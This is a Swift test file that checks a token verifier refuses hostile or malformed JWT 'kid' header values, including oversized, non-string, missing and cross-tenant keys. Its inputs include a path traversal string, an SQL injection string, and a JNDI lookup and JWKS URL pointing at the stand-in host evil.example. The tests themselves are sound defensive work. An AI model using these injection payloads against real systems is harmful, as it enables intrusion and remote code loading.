import Foundation
import Testing
import Tokens

/// Abuse case C7: a `kid` that is a path, a query, huge, unknown or another tenant's.
struct KeyIDAttackTests {
    @Test(arguments: [
        "../../dev/null", "/dev/null", "' OR 1=1--", "\\u0000", "", "*", "https://evil.example/jwks", "${jndi:ldap://evil.example}", "é",
    ])
    func `a kid that names no key is refused`(keyID: String) throws {
        let fixture = try TokenFixture()
        #expect(fixture.refusal(try fixture.token(header: #"{"alg":"ES256","typ":"at+jwt","kid":"\#(keyID)"}"#)) == .keyUnknown)
    }

    @Test func `a kid of 100 KB is refused`() throws {
        let fixture = try TokenFixture()
        let keyID = String(repeating: "k", count: 100_000)
        #expect(fixture.refusal(try fixture.token(header: #"{"alg":"ES256","typ":"at+jwt","kid":"\#(keyID)"}"#)) == .tooLarge)
    }

    @Test func `a kid longer than any key's is refused`() throws {
        let fixture = try TokenFixture()
        let keyID = String(repeating: "k", count: 257)
        #expect(fixture.refusal(try fixture.token(header: #"{"alg":"ES256","typ":"at+jwt","kid":"\#(keyID)"}"#)) == .keyUnknown)
    }

    @Test(arguments: ["null", "1", "[]", "{\"a\":1}"])
    func `a kid that is not a string is refused`(value: String) throws {
        let fixture = try TokenFixture()
        #expect(fixture.refusal(try fixture.token(header: #"{"alg":"ES256","typ":"at+jwt","kid":\#(value)}"#)) == .malformed)
    }

    @Test func `a token without a kid is refused even when the issuer has one key only`() throws {
        let fixture = try TokenFixture()
        #expect(fixture.refusal(try fixture.token(header: #"{"alg":"ES256","typ":"at+jwt"}"#)) == .keyUnknown)
    }

    @Test func `another tenant's token is refused by its kid`() throws {
        let fixture = try TokenFixture()
        let other = try TokenFixture()
        #expect(fixture.refusal(try other.token()) == .keyUnknown)
    }

    @Test func `another tenant's signature under our kid is refused`() throws {
        let fixture = try TokenFixture()
        let other = try TokenFixture()
        let token = try other.token(header: #"{"alg":"ES256","typ":"at+jwt","kid":"\#(fixture.key.keyID)"}"#)
        #expect(fixture.refusal(token) == .signatureInvalid)
    }
}
